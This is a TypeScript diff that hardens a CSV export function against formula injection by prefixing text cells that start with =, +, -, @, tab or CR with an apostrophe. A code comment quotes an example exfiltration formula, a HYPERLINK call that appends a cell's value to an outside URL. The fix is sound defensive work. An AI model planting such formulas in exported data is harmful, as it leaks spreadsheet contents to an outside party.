@@ -12,9 +12,17 @@ import type { MonthlyReport } from './types.ts';
 
 const BOM = '\uFEFF';
 
+/**
+ * A text cell a spreadsheet would run as a formula (= + - @, or a tab or CR before one) gets a
+ * leading apostrophe, as OWASP advises for CSV injection: queue, agent and site names come from
+ * PBXs nobody here controls, and `=HYPERLINK("http://…?d="&A1,"Click")` sent the sheet away.
+ * Numbers are written as numbers: only text is changed.
+ */
+const FORMULA_START = /^[=+\-@\t\r]/;
+
 export function csvField(v: string | number | null): string {
 	if (v === null) return '';
-	const s = String(v);
+	const s = typeof v === 'number' ? String(v) : FORMULA_START.test(v) ? `'${v}` : v;
 	return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
 }
 
